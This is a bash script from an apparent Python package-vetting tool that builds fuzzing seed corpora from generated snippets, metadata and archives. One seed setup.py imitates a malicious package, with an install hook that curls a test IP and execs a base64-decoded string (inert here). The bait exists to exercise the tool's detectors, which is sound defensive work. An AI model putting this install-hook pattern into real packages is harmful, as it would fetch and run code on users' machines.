#!/usr/bin/env bash
# Write small seed corpora for the libFuzzer targets (tests/fuzz/fuzz_*.c) into DIR/<target>/,
# generated here at build time: no corpus sample and no seed file is committed. Seeds are
# snippets written below, the project's own Python scripts, and archives packed from a tiny
# generated package with tar, gzip, bzip2, xz and zip (all in the Makefile's DEBIAN_PACKAGES).
# Usage: scripts/fuzz/seeds.sh DIR
set -euo pipefail
out=${1:?usage: seeds.sh DIR}
cd "$(dirname "$0")/../.."
rm -rf "$out"
mkdir -p "$out"/{fuzz_pkgfs,fuzz_pkginfo,fuzz_pylex,fuzz_patterns}
work=$(mktemp -d "${TMPDIR:-/tmp}/pyvet-seeds.XXXXXX")
trap 'rm -rf "$work"' EXIT

# --- Python sources (fuzz_pylex, fuzz_patterns)
cat >"$work/setup.py" <<'EOF'
from setuptools import setup
from setuptools.command.install import install
import os, base64, subprocess as sp

class PostInstall(install):
    def run(self):
        install.run(self)
        sp.call(["curl", "http://198.51.100.7:8080/x"])  # fetch
        exec(base64.b64decode("cHJpbnQoMSk="))

setup(name="demo", version="0.0.1", cmdclass={'install': PostInstall},
      url="https://github.com/example/demo", author_email="dev@example.org")
EOF
cat >"$work/mod.py" <<'EOF'
# -*- coding: utf-8 -*-
"""Docstring with a URL https://example.com/a?b=1#c and 10.0.0.1"""
import urllib.request as u
from os import system as s, path
x = f"{u.urlopen('ftp://h/'+str(1)).read()!r:>{10}}"
y = rb'\x00' b"abc" '''multi
line''' + "é"
def f(*a, **k): return (lambda q: q)(a)[0] if a else {k: [i for i in range(3)]}
s("echo hi"); path.join("a", "b")
cmdclass = dict(develop=Dev, egg_info=Egg)
class a(b, install): pass
EOF
for f in "$work/setup.py" "$work/mod.py"; do
	cp "$f" "$out/fuzz_pylex/"
	cp "$f" "$out/fuzz_patterns/"
done
k=0
for f in $(find scripts -name '*.py' | sort | head -8); do
	k=$((k + 1))
	head -c 8192 "$f" >"$out/fuzz_pylex/script$k.py"
done
# --- text lines for the matchers (fuzz_patterns)
printf '%s\n' 'class a(class a(class a(install' 'cmdclass=dict(cmdclass=dict(develop=' \
	'http://a@b@c/d https://[::1]:80/ 1.2.3.4 999.1.1.1 hTTp://X.Y.' \
	'Permission is hereby granted, free of charge, to any person obtaining a copy' \
	'Licensed under the Apache License, Version 2.0' \
	'License :: OSI Approved :: MIT License' >"$out/fuzz_patterns/lines.txt"

# --- PKG-INFO (fuzz_pkginfo)
cat >"$out/fuzz_pkginfo/PKG-INFO" <<'EOF'
Metadata-Version: 2.1
Name: demo
Version: 0.0.1
Summary: a demo
Home-page: https://github.com/example/demo
Author: Dev
Author-email: Dev <dev@example.org>, other@example.com
License: MIT
Project-URL: Source, https://github.com/example/demo
Classifier: License :: OSI Approved :: MIT License
Classifier: Programming Language :: Python :: 3
License-File: LICENSE
Description-Content-Type: text/markdown
Description: first line
        continued line
        |
        last

# Demo
body text
EOF
printf 'Metadata-Version: 1.0\r\nName: x\r\nVersion: 1\r\n\r\n' >"$out/fuzz_pkginfo/crlf"

# --- archives (fuzz_pkgfs)
pkg=$work/demo-0.0.1
mkdir -p "$pkg/demo" "$pkg/demo.egg-info"
cp "$work/setup.py" "$pkg/setup.py"
cp "$work/mod.py" "$pkg/demo/__init__.py"
cp "$out/fuzz_pkginfo/PKG-INFO" "$pkg/PKG-INFO"
cp "$out/fuzz_pkginfo/PKG-INFO" "$pkg/demo.egg-info/PKG-INFO"
printf '[egg_info]\ntag_build =\ntag_date = 0\n\n' >"$pkg/setup.cfg"
printf 'MIT License\n\nPermission is hereby granted, free of charge\n' >"$pkg/LICENSE"
(
	cd "$work"
	tar -cf demo.tar demo-0.0.1
	gzip -9 -n -c demo.tar >demo.tar.gz
	bzip2 -9 -c demo.tar >demo.tar.bz2
	xz -9 -c demo.tar >demo.tar.xz
	zip -qr -X demo.zip demo-0.0.1
	zip -q -X -P infected stored.zip demo.tar.gz
	mkdir -p whl/demo whl/demo-0.0.1.dist-info
	cp demo-0.0.1/demo/__init__.py whl/demo/
	cp demo-0.0.1/PKG-INFO whl/demo-0.0.1.dist-info/METADATA
	(cd whl && zip -qr -X ../demo-0.0.1-py3-none-any.whl .)
	# an installed package with a DEP-5 copyright (the canonical view's licence parser)
	if command -v dpkg-deb >/dev/null; then
		dp=deb/usr/lib/python3/dist-packages
		mkdir -p deb/DEBIAN "$dp/demo-0.0.1.egg-info" deb/usr/share/doc/python3-demo
		cp -r demo-0.0.1/demo "$dp/"
		cp demo-0.0.1/PKG-INFO "$dp/demo-0.0.1.egg-info/"
		printf 'Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\nFiles: debian/*\nLicense: GPL-2+\n GNU General Public License\n\nFiles: *\nLicense: Expat\n\nLicense: Expat\n Permission is hereby granted, free of charge\n .\n end\n' \
			>deb/usr/share/doc/python3-demo/copyright
		printf 'Package: python3-demo\nVersion: 0.0.1-1\nArchitecture: all\nMaintainer: T <t@example.org>\nDescription: demo\n' \
			>deb/DEBIAN/control
		dpkg-deb --root-owner-group -Zgzip --build deb demo.deb >/dev/null
	fi
)
cp "$work"/demo.tar "$work"/demo.tar.gz "$work"/demo.tar.bz2 "$work"/demo.tar.xz "$work"/demo.zip \
	"$work"/stored.zip "$work"/demo-0.0.1-py3-none-any.whl "$out/fuzz_pkgfs/"
[ -f "$work/demo.deb" ] && cp "$work/demo.deb" "$out/fuzz_pkgfs/"
for t in "$out"/*/; do
	echo "seeds: $(basename "$t"): $(find "$t" -type f | wc -l) files, $(du -sk "$t" | cut -f1) KB"
done
